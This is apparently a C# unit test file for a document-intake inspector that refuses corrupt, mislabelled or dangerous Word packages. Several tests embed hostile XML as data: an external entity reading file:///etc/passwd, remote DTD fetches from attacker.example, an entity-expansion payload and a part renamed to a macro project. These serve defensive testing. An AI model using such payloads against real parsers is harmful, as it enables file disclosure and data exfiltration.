using System.Text;
using ContractDocs.Intake;

namespace ContractDocs.Tests.Intake;

/// <summary>Broken packages, packages that are not Word documents, and DTDs.</summary>
public sealed partial class DocumentInspectorTests
{
    private static readonly string[] Codes =
    [
        IntakeCodes.EmptyFile, IntakeCodes.TooLarge, IntakeCodes.UnsupportedType, IntakeCodes.MacroEnabled,
        IntakeCodes.ExternalRelationship, IntakeCodes.AltChunk, IntakeCodes.DangerousField, IntakeCodes.ZipBomb,
        IntakeCodes.CorruptPackage, IntakeCodes.Dtd, IntakeCodes.PdfActiveContent, IntakeCodes.PdfBadHeader,
        IntakeCodes.InvalidPartName, IntakeCodes.ExtensionMismatch, IntakeCodes.PdfUnreadable,
    ];

    [Fact]
    public void Inspect_TruncatedZip_IsCorruptPackage()
    {
        var bytes = new DocxBuilder().Build();

        AssertRefused(DocumentInspector.Inspect(bytes.AsSpan(0, bytes.Length / 2), "contract.docx", Limits), IntakeCodes.CorruptPackage);
    }

    [Fact]
    public void Inspect_EmptyZip_IsCorruptPackage()
    {
        AssertRefused(DocumentInspector.Inspect(ZipBytes.Of(), "contract.docx", Limits), IntakeCodes.CorruptPackage);
    }

    [Fact]
    public void Inspect_PackageWithoutWordDocumentXml_IsCorruptPackage()
    {
        AssertRefused(Inspect(new DocxBuilder { WithDocument = false }.Build()), IntakeCodes.CorruptPackage);
    }

    [Fact]
    public void Inspect_PartHoldingLessThanItDeclares_IsCorruptPackage()
    {
        var bytes = ZipBytes.WithDeclaredSize(new DocxBuilder().Part("word/media/image1.png", [1, 2, 3, 4]).Build(), "word/media/image1.png", 10_000);

        var result = Inspect(bytes);

        AssertRefused(result, IntakeCodes.CorruptPackage);
        Assert.Contains("declares 10,000 bytes but holds 4", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_LocalHeaderNamingAnotherPart_IsCorruptPackage()
    {
        var honest = new DocxBuilder().Part("word/media/img1.bin", [1, 2, 3, 4]).Build();

        AssertRefused(Inspect(ZipBytes.WithLocalName(honest, "word/media/img1.bin", "word/vbaProject.bin")), IntakeCodes.CorruptPackage);
    }

    [Fact]
    public void Inspect_ZipThatIsNotAnOfficePackage_IsUnsupportedType()
    {
        AssertRefused(Inspect(ZipBytes.Of(("holiday/photo.jpg", "not really"), ("notes.txt", "hello"))), IntakeCodes.UnsupportedType);
    }

    [Fact]
    public void Inspect_SpreadsheetPackage_IsUnsupportedType()
    {
        var bytes = new DocxBuilder { MainContentType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" }.Build();

        AssertRefused(Inspect(bytes), IntakeCodes.UnsupportedType);
    }

    [Fact]
    public void Inspect_MalformedDocumentXml_IsCorruptPackage()
    {
        var bytes = new DocxBuilder { DocumentXml = $"<w:document xmlns:w=\"{DocxBuilder.W}\"><w:body><w:p>" }.Build();

        var result = Inspect(bytes);

        AssertRefused(result, IntakeCodes.CorruptPackage);
        Assert.Contains("word/document.xml", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_DoctypeWithEntityInDocumentXml_IsDtd()
    {
        var xml = $"<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><w:document xmlns:w=\"{DocxBuilder.W}\"><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>";

        AssertRefused(Inspect(new DocxBuilder { DocumentXml = xml }.Build()), IntakeCodes.Dtd);
    }

    [Fact]
    public void Inspect_ExternalEntityInARelationshipsPart_IsDtd()
    {
        var rels = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + DocxBuilder.RelationshipsXml()[(DocxBuilder.RelationshipsXml().IndexOf("?>", StringComparison.Ordinal) + 2)..];
        var bytes = new DocxBuilder().Part("word/_rels/document.xml.rels", rels).Build();

        AssertRefused(Inspect(bytes), IntakeCodes.Dtd);
    }

    [Fact]
    public void Inspect_DoctypeInUtf16Part_IsDtd()
    {
        var xml = $"<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE w:document SYSTEM \"http://attacker.example/x.dtd\"><w:document xmlns:w=\"{DocxBuilder.W}\"><w:body/></w:document>";
        var bytes = new DocxBuilder { WithDocument = false }.Part("word/document.xml", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(xml)).ToArray()).Build();

        AssertRefused(Inspect(bytes), IntakeCodes.Dtd);
    }

    [Fact]
    public void Inspect_PackageWithoutContentTypes_IsCorruptPackage()
    {
        var result = Inspect(new DocxBuilder { WithContentTypes = false }.Build());

        AssertRefused(result, IntakeCodes.CorruptPackage);
        Assert.Contains("[Content_Types].xml", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_PackageThatNamesNoMainDocument_IsCorruptPackage()
    {
        AssertRefused(Inspect(new DocxBuilder { WithMainRelationship = false }.Build()), IntakeCodes.CorruptPackage);
    }

    [Fact]
    public void Inspect_PackageThatNamesTwoMainDocuments_IsCorruptPackage()
    {
        var bytes = new DocxBuilder().PackageRelationship("rId2", "officeDocument", "word/other.xml")
            .Part("word/other.xml", $"<w:document xmlns:w=\"{DocxBuilder.W}\"><w:body/></w:document>").Build();

        var result = Inspect(bytes);

        AssertRefused(result, IntakeCodes.CorruptPackage);
        Assert.Contains("more than one main document", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Inspect_MainDocumentRelationshipThatClimbsOutOfThePackage_IsCorruptPackage()
    {
        var bytes = new DocxBuilder { WithMainRelationship = false }.PackageRelationship("rId1", "officeDocument", "../word/document.xml").Build();

        AssertRefused(Inspect(bytes), IntakeCodes.CorruptPackage);
    }

    [Fact]
    public void Inspect_ZipWhoseDirectoryDeclaresMoreEntriesThanItHolds_IsCorruptPackage()
    {
        var bytes = ZipBytes.WithDeclaredEntryCount(new DocxBuilder().Build(), 40);

        AssertRefused(Inspect(bytes), IntakeCodes.CorruptPackage);
    }

    [Theory]
    [InlineData("[Content_Types].xml")]
    [InlineData("_rels/.rels")]
    [InlineData("word/styles.xml")]
    [InlineData("customXml/item1.xml")]
    [InlineData("docProps/core.xml")]
    public void Inspect_DtdOrExternalEntityInAnyPart_IsDtd(string partName)
    {
        const string doctype = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % remote SYSTEM \"https://attacker.example/x.dtd\"> %remote;]>";
        var honest = new DocxBuilder().Part("word/styles.xml", $"<w:styles xmlns:w=\"{DocxBuilder.W}\"/>").Part("customXml/item1.xml", "<item/>")
            .Part("docProps/core.xml", "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\"/>").Build();
        var original = PartText(honest, partName);
        var hostile = ZipBytes.WithContent(honest, partName, doctype + original[(original.IndexOf("?>", StringComparison.Ordinal) is var end and >= 0 ? end + 2 : 0)..]);

        var result = Inspect(hostile);

        AssertRefused(result, IntakeCodes.Dtd);
    }

    private static string PartText(byte[] zip, string partName)
    {
        using var archive = new System.IO.Compression.ZipArchive(new MemoryStream(zip), System.IO.Compression.ZipArchiveMode.Read);
        using var reader = new StreamReader(archive.GetEntry(partName)!.Open(), Encoding.UTF8);
        return reader.ReadToEnd();
    }

    [Fact]
    public void Inspect_EveryTruncationOfADocx_IsRefusedNotThrown()
    {
        var bytes = new DocxBuilder().Build();

        for (var length = 1; length < bytes.Length; length += 7)
        {
            var result = DocumentInspector.Inspect(bytes.AsSpan(0, length), "contract.docx", Limits);

            Assert.False(result.Accepted, $"accepted at {length} bytes");
            Assert.Contains(result.Code, new[] { IntakeCodes.CorruptPackage, IntakeCodes.UnsupportedType });
        }
    }

    [Fact]
    public void Inspect_DocxWithFlippedBytes_AlwaysGivesAResultWithAKnownCode()
    {
        var original = new DocxBuilder { Body = ComplexField.Paragraph(" PAGE ") }
            .Relationship("rIdH", "hyperlink", "https://example.com", external: true).Build();
        var random = new Random(20261123);

        for (var round = 0; round < 300; round++)
        {
            var bytes = (byte[])original.Clone();
            for (var flips = random.Next(1, 4); flips > 0; flips--)
            {
                bytes[random.Next(bytes.Length)] ^= (byte)random.Next(1, 256);
            }

            var result = DocumentInspector.Inspect(bytes, "contract.docx", Limits);

            Assert.Equal(result.Accepted, result.Code is null);
            Assert.True(result.Accepted || (Codes.Contains(result.Code) && !string.IsNullOrWhiteSpace(result.Reason)), $"round {round}: {result.Code}");
        }
    }
}
